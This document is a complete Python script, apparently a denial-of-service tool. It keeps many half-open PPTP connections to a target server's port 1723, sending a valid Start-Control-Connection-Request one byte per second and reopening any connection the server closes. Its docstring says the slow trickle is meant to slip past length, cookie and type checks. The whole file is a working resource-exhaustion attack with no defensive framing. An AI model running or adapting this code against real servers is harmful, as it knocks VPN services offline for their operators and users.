#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""flood.py SOURCE SERVER COUNT: keep COUNT half-open PPTP connections from SOURCE.

Each sends a correct Start-Control-Connection-Request, one byte a second, so that no check of
length, cookie or type gives it away. Connections that the server closes are opened again. One line
a second says how things stand; ends with SIGTERM.
"""
import socket
import struct
import sys
import time

SCCRQ = (struct.pack("!HHIHHHHIIHH", 156, 1, 0x1A2B3C4D, 1, 0, 0x100, 0, 3, 3, 0, 0)
         + bytes(64) + bytes(64))


class Drip:
    def __init__(self, source, server):
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.bind((source, 0))
        self.sock.connect_ex((server, 1723))
        self.sent = 0
        self.is_open = False

    def drip(self):
        """Send the next byte; False when the connection is gone."""
        try:
            self.sent += self.sock.send(SCCRQ[self.sent:self.sent + 1])
            self.is_open = True
        except BlockingIOError:
            pass
        except OSError:
            return False
        return self.sent < len(SCCRQ)

    def is_closed_by_server(self):
        try:
            return self.sock.recv(256) == b""
        except BlockingIOError:
            return False
        except OSError:
            return self.is_open


def main():
    source, server, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    drips, opened, lost = [], 0, 0
    while True:
        end = time.monotonic() + 1
        while len(drips) < count:
            drips.append(Drip(source, server))
            opened += 1
        time.sleep(0.2)
        alive = []
        for drip in drips:
            if drip.drip() and not drip.is_closed_by_server():
                alive.append(drip)
            else:
                drip.sock.close()
                lost += 1
        drips = alive
        n_open = sum(drip.is_open for drip in drips)
        print(f"flood open={n_open} opened={opened} lost={lost}", flush=True)
        time.sleep(max(0, end - time.monotonic()))


main()
